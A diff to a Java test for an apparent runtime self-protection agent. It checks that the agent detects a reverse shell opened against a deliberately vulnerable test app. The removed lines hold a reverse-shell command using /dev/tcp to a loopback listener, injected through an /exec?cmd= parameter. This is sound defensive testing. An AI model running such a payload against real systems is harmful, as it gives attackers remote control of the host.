@@ -28,14 +28,7 @@ class JvmRaspConsoleTest {
             try (AgentProcess agent = AgentProcess.start(args.toArray(String[]::new));
                  ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
                 app.awaitState(j -> j.path("status").asText().equals("attached") && j.path("connected").asBoolean(), "attached");
-                String shell = "exec bash -c 'exec sh -i <>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + " >&0 2>&1'";
-                Thread.ofVirtual().start(() -> {
-                    try {
-                        app.get("/exec?cmd=" + VulnerableJvm.encode(shell));
-                    } catch (Exception ignored) {
-                        // ends with the shell
-                    }
-                });
+                app.reverseShellTo(listener);
                 try (Socket s = listener.accept()) {
                     agent.await("Reverse shell", x -> x.path("events").path(0).path("jvm_pid").asLong() == app.pid());
                     s.getOutputStream().write("exit\n".getBytes());
